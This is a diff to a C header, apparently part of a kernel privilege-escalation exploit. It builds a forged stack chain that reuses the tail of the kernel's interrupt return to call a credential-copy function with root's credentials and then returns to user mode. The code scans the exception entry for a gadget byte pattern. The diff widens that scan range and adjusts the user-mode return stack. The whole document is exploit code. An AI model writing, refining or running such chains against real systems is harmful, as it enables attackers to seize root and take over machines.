@@ -3,8 +3,8 @@
  * forged_chain.h - what an attacker puts on a kernel stack in the place of a return address: the
  * end of the kernel's own interrupt return, which loads every register from the stack. Its first
  * frame calls the function that copies into sealed memory, with root's credentials and those of
- * the stack's owner; its second goes back to user mode by the owner's own frame, as if the system
- * call were over:
+ * the stack's owner; its second goes back to user mode with the owner's registers, as if the
+ * system call were over:
  * - slot: the return address, to the end of the interrupt return;
  * - slot + 8: registers for sealed_copy(own credentials, root's, size);
  * - slot + 184: the return address of sealed_copy(), to the same end;
@@ -35,7 +35,7 @@ static inline uint64_t find_register_loader(void)
 {
 	const uint64_t start = symbol("exception_entry");
 
-	for (uint64_t at = start; at < start + 512; at++)
+	for (uint64_t at = start; at < start + 1024; at++)
 		if (peek(at) == 0x5c415d415e415f41 && peek(at + 8) == 0x415a415a5e5f5b5d &&
 		    peek32(at + 24) == 0x4810c483 && peek8(at + 28) == 0xcf)
 			return at;
@@ -69,7 +69,7 @@ static inline void make_chain(uint64_t words[CHAIN_SIZE / 8], uint64_t slot, uin
 	call->si = symbol("kernel_credentials");
 	call->dx = member("credentials.SIZE");
 	words[1 + FRAME_SIZE / 8] = loader;
-	put_registers(words + 2 + FRAME_SIZE / 8, symbol("return_to_user"), top - FRAME_SIZE);
+	put_registers(words + 2 + FRAME_SIZE / 8, symbol("return_to_user"), top);
 }
 
 /*
